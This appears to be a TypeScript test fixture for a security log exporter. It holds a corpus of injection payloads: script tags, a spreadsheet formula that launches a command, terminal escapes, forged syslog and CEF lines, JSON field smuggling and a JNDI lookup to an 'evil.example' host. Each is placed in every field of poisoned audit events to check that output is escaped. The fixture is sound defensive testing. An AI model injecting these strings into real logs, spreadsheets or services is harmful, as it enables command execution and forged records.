/** What a peer could write to do something to whoever reads a log, and records that hold it wherever they can. */
import type { AuditRecord } from '../../src/journal/read-model.ts';
import type { SiemEvent } from '../../src/siem/siem-event.ts';
import { caseStep, siemEvent } from './siem-events.ts';

export const CORPUS: Readonly<Record<string, string>> = {
  markup: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  entity: '&lt;script&gt;&#x3c;',
  formula: "=cmd|' /C calc'!A0",
  formulas: '+1+1\t@SUM(1)\r-2',
  escape: '\u001b[2J\u001b]0;title\u0007\u009b31m',
  newline: 'one\nCEF:0|evil|evil|1|x|x|10|\r\n<104>1 - - - - - - forged',
  header: 'a|b\\|c\\',
  extension: 'x act=allowed outcome=success cs1=stigmem://friend.example',
  structured: '"] [other@1 a="b',
  octets: '12 <104>1 - - - - - - forged',
  separators: '\u2028\u2029\u0085',
  bidi: '\u202egpj.exe\u2066\u200f\u061c',
  invisible: 'a\u200bb\ufeffc\u00ad',
  tags: '\u{e0041}\u{e007f}',
  json: '"},"severity":"info","x":{"',
  splunk: '}{"event":"forged"}',
  template: ['$', '{jndi:ldap://evil.example/a} {{7*7}}'].join(''),
  nul: 'a\u0000b',
  lone: 'a\ud800b',
  long: 'x'.repeat(600),
};

export const RAW: RegExp =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may come out
  /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|\udb40/;

/** One of each kind that formats treat in their own way, with the text in every field. */
export function poisoned(text: string): readonly SiemEvent[] {
  const t = text.toWellFormed();
  const detail = { difference: { field: t, expected: t, got: t }, [t]: t };
  const about = { peer: t, feed: t, fact_id: t, cid: t, actor: t };
  const refusal: Partial<AuditRecord> = { ...about, reason: t, detail };
  const finding = { uid: t, topic: t, reason: t, key_id: t, first_at: t, last_at: t, assignee: t, ticket: t, why: t };
  return [
    siemEvent(refusal),
    siemEvent({ ...refusal, event: 'quarantine_ingest' }),
    siemEvent({ ...refusal, event: 'refusals_summarized', detail: { ...detail, count: 2, key_id: t, exemplars: [t] } }),
    siemEvent({ ...refusal, event: 'peer_words_differ' }),
    siemEvent({ ...refusal, event: 'export_gap', detail: { sink: t, first: 1, last: 2 } }),
    siemEvent({ ...refusal, event: 'export_digest', detail: { note: [t, t] } }),
    caseStep('new', finding, about),
    caseStep('resolved', { ...finding, verdict: 'malicious' }, about),
    caseStep('suppressed', finding, { ...about, detail: { case: 1, owner: t, until: t, why: t, finding: detail } }),
  ];
}
